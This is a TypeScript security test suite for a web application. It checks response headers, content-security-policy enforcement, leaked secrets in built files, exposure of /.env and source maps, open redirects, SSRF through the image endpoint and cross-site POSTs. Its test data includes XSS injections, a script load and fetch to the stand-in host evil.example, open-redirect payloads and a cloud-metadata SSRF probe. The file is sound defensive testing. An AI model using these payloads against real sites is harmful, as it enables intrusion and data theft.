/** What the running product says and gives to strangers: policies of its answers, no secrets, no way to other places. */
import { once } from 'node:events';
import { readdirSync, readFileSync } from 'node:fs';
import { type IncomingMessage, request } from 'node:http';
import { join } from 'node:path';
import type { Browser, Page } from 'playwright-core';
import { distDir, studioDir } from '../scripts/build.ts';
import { openBrowser } from './browser.ts';
import { eventually } from './eventually.ts';
import { listPaths } from './quality/crawl.ts';
import { startStack, type Stack } from './stack.ts';

let stack: Stack;
let browser: Browser;

beforeAll(async () => {
  stack = await startStack();
  browser = await openBrowser();
});

afterAll(async () => {
  await browser?.close();
  await stack?.stop();
});

const get = (path: string, headers: Record<string, string> = {}) =>
  fetch(stack.siteUrl + path, { headers, redirect: 'manual' });

/** Addresses of each kind of answer. */
async function kinds(): Promise<Readonly<Record<string, string>>> {
  const home = await (await get('/')).text();
  const [script = ''] = /\/_next\/static\/[^"]+\.js/.exec(home) ?? [];
  const [picture = ''] = /\/lake\/images\/[^"?\s]+/.exec(home) ?? [];
  const [ofStudio = ''] = /\/studio\/static\/[^"]+\.js/.exec(await (await get('/studio')).text()) ?? [];
  return {
    page: '/',
    'page that is missing': '/nada',
    'page of the content': '/a-clinica',
    api: '/api/revision?path=/',
    'preview picture': '/og/1200x630',
    feed: '/feed.xml',
    worker: '/sw.js',
    health: '/healthz',
    script,
    picture,
    studio: '/studio/structure',
    'script of Studio': ofStudio,
    lake: '/lake/v1/ping',
    'login page': '/lake/accounts/login',
    'login page of Studio': `/lake/v1/auth/login/local?origin=${encodeURIComponent(stack.siteUrl)}`,
  };
}

it.each(['/', '/lake/v1/ping', '/nada'])(
  'O13: answers %s as usual to who offers another protocol (h2c)',
  async (path) => {
    const headers = {
      connection: 'Upgrade, HTTP2-Settings',
      upgrade: 'h2c',
      'http2-settings': 'AAMAAABkAAQAoAAAAAIAAAAA',
    };
    const asked = request(stack.siteUrl + path, { headers }).end();
    const [reply] = (await once(asked, 'response')) as [IncomingMessage];
    reply.resume();
    expect(reply.statusCode).toBe((await get(path)).status);
  },
);

it('says of every kind of answer what browsers may do with it', async () => {
  for (const [kind, path] of Object.entries(await kinds())) {
    const { headers, status } = await get(path, { 'x-forwarded-proto': 'https' });
    const found = (name: string) => `${kind} (${path}, ${status}) ${name}: ${headers.get(name)}`;
    expect(found('x-content-type-options')).toMatch(/: nosniff$/);
    expect(found('strict-transport-security')).toMatch(/: max-age=63072000$/);
    expect(found('cross-origin-resource-policy')).toMatch(
      /^(picture|preview picture|feed) .*: cross-origin$|: same-origin$/,
    );
    expect(found('content-security-policy')).toMatch(/^picture |: default-src 'none'; .*frame-ancestors '/);
    expect(found('content-security-policy')).not.toMatch(/script-src[^;]*'unsafe-/);
  }
});

/** What a page's policy refused, and what else went wrong in it. */
async function watched(page: Page): Promise<string[]> {
  const found: string[] = [];
  await page.exposeFunction('refused', (text: string) => void found.push(text));
  await page.addInitScript(() =>
    document.addEventListener('securitypolicyviolation', ({ violatedDirective, blockedURI, sample }) => {
      const report: unknown = Reflect.get(window, 'refused');
      if (typeof report === 'function') report(`${violatedDirective} ${blockedURI} ${sample}`);
    }),
  );
  page.on('pageerror', (error) => found.push(error.message));
  page.on('console', (message) => {
    // Headers that the browser does not understand.
    if (/-Policy header/.test(message.text())) found.push(message.text());
  });
  return found;
}

it('runs every page under its policy, and refuses nothing of the site’s own', async () => {
  const page = await browser.newPage();
  const refused = await watched(page);
  for (const path of await listPaths(stack.siteUrl)) {
    await page.goto(stack.siteUrl + path);
    // React has taken the page over: its scripts ran.
    await page.waitForFunction(() => Object.keys(document.documentElement).some((key) => key.startsWith('__react')));
    expect([path, refused]).toEqual([path, []]);
  }
  await page.close();
});

it('runs nothing that somebody slips into a page', async () => {
  const page = await browser.newPage();
  const refused = await watched(page);
  await page.goto(stack.siteUrl);
  await page.evaluate(() => {
    const script = document.createElement('script');
    script.textContent = 'document.title = "slipped in"';
    document.body.append(script);
    document.body.insertAdjacentHTML('beforeend', '<img src="data:," onerror="document.title = \'slipped in\'">');
    const link = document.createElement('a');
    link.setAttribute('href', 'javascript:void (document.title = "slipped in")');
    document.body.append(link);
    link.click();
    const foreign = document.createElement('script');
    foreign.src = 'https://evil.example/a.js';
    document.body.append(foreign);
    void fetch('https://evil.example/?data').catch(() => undefined);
  });
  const wanted = ['connect-src', 'script-src-attr', 'script-src-elem'];
  await eventually(async () => wanted.every((name) => refused.some((text) => text.startsWith(name))), true);
  expect(await page.title()).not.toBe('slipped in');
  await page.close();
});

/** Every file below a folder. */
function filesOf(folder: string): readonly string[] {
  return readdirSync(folder, { recursive: true, withFileTypes: true })
    .filter((entry) => entry.isFile())
    .map((entry) => join(entry.parentPath, entry.name));
}

it('holds no secret in anything that is built (L4)', () => {
  const { dataDir, adminPassword = '' } = stack.settings;
  const kept = ['site/contact-token', 'site/preview-token'].map((file) =>
    readFileSync(join(dataDir, file), 'utf8').trim(),
  );
  const { webhookSecret }: { webhookSecret: string } = JSON.parse(readFileSync(join(dataDir, 'secrets.json'), 'utf8'));
  const named = Object.entries(process.env).filter(([name]) => /SECRET|TOKEN|PASSWORD|SMTP_URL/.test(name));
  const secrets = [webhookSecret, adminPassword, ...kept, ...named.map(([, value = '']) => value)];
  const long = secrets.filter((secret) => secret.length >= 8);
  expect(long.length).toBeGreaterThanOrEqual(4);

  const built = [...filesOf(join(distDir, 'static')), ...filesOf(join(distDir, 'server')), ...filesOf(studioDir)];
  expect(built.length).toBeGreaterThan(50);
  const telling = built.filter((file) => {
    const content = readFileSync(file);
    return long.some((secret) => content.includes(secret));
  });
  expect(telling).toEqual([]);
  // A canary: the search would find one.
  expect(built.some((file) => readFileSync(file).includes('clinica'))).toBe(true);
});

it('gives no source of the server, no settings and no map of its scripts', async () => {
  const { script = '', 'script of Studio': ofStudio = '' } = await kinds();
  const asked = [
    '/.env',
    '/package.json',
    '/web/server.ts',
    '/_next/server/app/page.js',
    `${script}.map`,
    `${ofStudio}.map`,
  ];
  const answers = await Promise.all(asked.map(async (path) => [path, (await get(path)).status]));
  expect(answers).toEqual(asked.map((path) => [path, 404]));
});

it.each(['//evil.example', '/%09/evil.example', '/.//evil.example', 'https://evil.example', '/%5Cevil.example'])(
  'leads nobody from a link of its own to %s (S5)',
  async (target) => {
    const answer = await get(`/api/preview/disable?path=${target}`);
    expect([answer.status, new URL(answer.headers.get('location') ?? '', stack.siteUrl).origin]).toEqual([
      307,
      stack.siteUrl,
    ]);
    const { status } = await get(
      `/api/preview/enable?sanity-preview-secret=invented&sanity-preview-pathname=${target}`,
    );
    expect(status).toBe(401);
    const slashes = await get(`/${target.replace(/^https:/, '')}`);
    const { origin } = new URL(slashes.headers.get('location') ?? '/', stack.siteUrl);
    expect(origin).toBe(stack.siteUrl);
  },
);

it('fetches nothing for a stranger: there is no service that takes an address', async () => {
  for (const url of ['http://169.254.169.254/', `${stack.lakeUrl}/metrics`, '/lake/metrics']) {
    const answer = await get(`/_next/image?url=${encodeURIComponent(url)}&w=640&q=75`);
    expect(answer.status).toBeGreaterThanOrEqual(400);
  }
});

it('takes no change from a page of another site, whatever cookies the browser adds', async () => {
  const foreign = { origin: 'https://evil.example', 'content-type': 'application/json' };
  const post = (path: string, body: string, headers: Record<string, string> = foreign) =>
    fetch(stack.siteUrl + path, { method: 'POST', body, headers, redirect: 'manual' });
  const mutation = JSON.stringify({ mutations: [{ create: { _type: 'page' } }] });
  const login = 'email=admin@clinica.local&password=x';
  expect([
    (await post('/lake/v2025-02-19/data/mutate/production', mutation)).status,
    (await post('/lake/accounts/login', login, { ...foreign, 'content-type': 'application/x-www-form-urlencoded' }))
      .status,
    (await post('/api/preview/perspective', '{"perspective":"drafts"}')).status,
  ]).toEqual([401, 403, 403]);
});
